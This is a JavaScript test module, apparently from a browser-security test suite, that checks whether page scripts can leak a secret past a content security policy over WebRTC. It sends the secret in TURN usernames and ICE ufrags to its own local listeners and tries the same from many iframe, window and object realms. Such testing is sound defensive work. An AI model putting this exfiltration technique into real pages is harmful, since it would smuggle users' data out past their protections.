// WebRTC as a way out of a page: no directive of a policy holds it. A script that runs in a page
// tries it from every realm that it can reach.
import { HERE, listenTcp, listenUdp, ownAddresses, textOf } from "./listeners.mjs";

/** Something that a script could know, as the name by which it asks to be reached. */
export const SECRET = "AGE45INCOME2150";

/** For each way, a test that something of it has arrived. */
export const ways = {
  "a STUN server": ({ stun }) => stun.heard.length > 0,
  "a TURN server by UDP": ({ turn }) => turn.heard.length > 0,
  "a TURN server by TCP": ({ turnTcp }) => turnTcp.connections() > 0,
  "a peer, which is told a chosen name": ({ peer }) => textOf(peer.heard).includes(SECRET),
};

/** A socket for each of the ways: { …, ports, arrived, close }. */
export async function listenForPeers() {
  const sockets = {
    stun: await listenUdp(),
    turn: await listenUdp(),
    turnTcp: await listenTcp(),
    // Firefox pairs no address of a network with the loopback one.
    peer: await listenUdp("0.0.0.0"),
  };
  return {
    ports: Object.fromEntries(Object.entries(sockets).map(([name, { port }]) => [name, port])),
    /** The names of the ways by which something came. */
    arrived: () =>
      Object.entries(ways)
        .filter(([, has]) => has(sockets))
        .map(([way]) => way),
    /** The sockets that anything came to. */
    touched: () =>
      Object.entries(sockets)
        .filter(([, { heard, connections }]) => heard.length > 0 || connections?.() > 0)
        .map(([name]) => name),
    close: () => Object.values(sockets).forEach(({ close }) => close()),
  };
}

/**
 * Realms in which a script in a page could look for what its own has lost. Each function runs in
 * the page and returns a window, or throws.
 */
export const freshRealms = {
  "about:blank": () => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    return frame.contentWindow;
  },
  "about:blank, by number": () => {
    document.body.append(document.createElement("iframe"));
    return window[window.length - 1];
  },
  "about:blank, by markup": () => {
    const place = document.createElement("div");
    document.body.append(place);
    place.innerHTML = "<iframe name='fresh'></iframe>";
    return window.fresh;
  },
  "about:blank, by document": () => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    return frame.contentDocument.defaultView;
  },
  "about:blank, loaded": async () => {
    const frame = document.createElement("iframe");
    const loaded = new Promise((done) => frame.addEventListener("load", done));
    frame.src = "about:blank";
    document.body.append(frame);
    await Promise.race([loaded, new Promise((done) => setTimeout(done, 1000))]);
    return frame.contentWindow;
  },
  srcdoc: async () => {
    const frame = document.createElement("iframe");
    const loaded = new Promise((done) => frame.addEventListener("load", done));
    frame.srcdoc = "<p>inside";
    document.body.append(frame);
    await Promise.race([loaded, new Promise((done) => setTimeout(done, 1000))]);
    return frame.contentWindow;
  },
  blob: async () => {
    const frame = document.createElement("iframe");
    const loaded = new Promise((done) => frame.addEventListener("load", done));
    frame.src = URL.createObjectURL(new Blob(["<p>inside"], { type: "text/html" }));
    document.body.append(frame);
    await Promise.race([loaded, new Promise((done) => setTimeout(done, 1000))]);
    return frame.contentWindow;
  },
  "a page made by javascript:": () => {
    const frame = document.createElement("iframe");
    frame.src = "javascript:'<p>inside'";
    document.body.append(frame);
    return frame.contentWindow;
  },
  object: () => {
    const object = document.createElement("object");
    object.type = "text/html";
    object.data = "about:blank";
    document.body.append(object);
    return object.contentWindow;
  },
  "a new window": () => open("about:blank"),
  "a document without a window": () => document.implementation.createHTMLDocument().defaultView,
  "the page around": () => parent,
  "the page around all": () => top,
};

/**
 * Runs in the page: tries all the ways with the constructor of a realm. Says what came of it:
 * "tried", "none" where the realm has no constructor, "closed" where the realm can't be reached.
 */
const attempt = async ([here, addresses, ports, secret, realm]) => {
  let Connection;
  try {
    const found = await (realm === null ? window : (0, realm)());
    Connection = found.RTCPeerConnection ?? found.webkitRTCPeerConnection ?? found.mozRTCPeerConnection;
  } catch {
    return "closed";
  }
  if (!Connection) return "none";
  const kept = (window.kept ??= []);
  const credentials = { username: secret, credential: "x" };
  const connect = async (iceServers) => {
    const connection = new Connection({ iceServers });
    kept.push(connection);
    connection.createDataChannel("x");
    await connection.setLocalDescription(await connection.createOffer());
    return connection;
  };
  await connect([{ urls: `stun:${here}:${ports.stun}` }]);
  await connect([{ urls: `turn:${here}:${ports.turn}`, ...credentials }]);
  await connect([{ urls: `turn:${here}:${ports.turnTcp}?transport=tcp`, ...credentials }]);
  // An answer that this page makes itself; in it the name of the other side, and where it is.
  const [one, other] = [await connect([]), new Connection()];
  kept.push(other);
  await other.setRemoteDescription(one.localDescription);
  await other.setLocalDescription(await other.createAnswer());
  const sdp = other.localDescription.sdp.replace(/a=ice-ufrag:.*/g, `a=ice-ufrag:${secret}`).replace(/a=candidate.*\r\n/g, "");
  await one.setRemoteDescription({ type: "answer", sdp });
  for (const [index, address] of addresses.entries()) {
    const candidate = `candidate:${index} 1 udp 2113937151 ${address} ${ports.peer} typ host`;
    await one.addIceCandidate({ candidate, sdpMLineIndex: 0, sdpMid: "0" });
  }
  return "tried";
};

/**
 * Tries WebRTC from within a frame, with the constructor of its own realm (null) or of one of
 * `freshRealms`. Returns what `attempt` says, or "refused: …" where something threw.
 */
export async function tryPeers(frame, { ports }, realm = null) {
  const how = realm === null ? "null" : String(freshRealms[realm]);
  const given = [HERE, ownAddresses(), ports, SECRET].map((part) => JSON.stringify(part)).join(", ");
  return frame.evaluate(`(${attempt})([${given}, ${how}]).catch((error) => "refused: " + error)`);
}
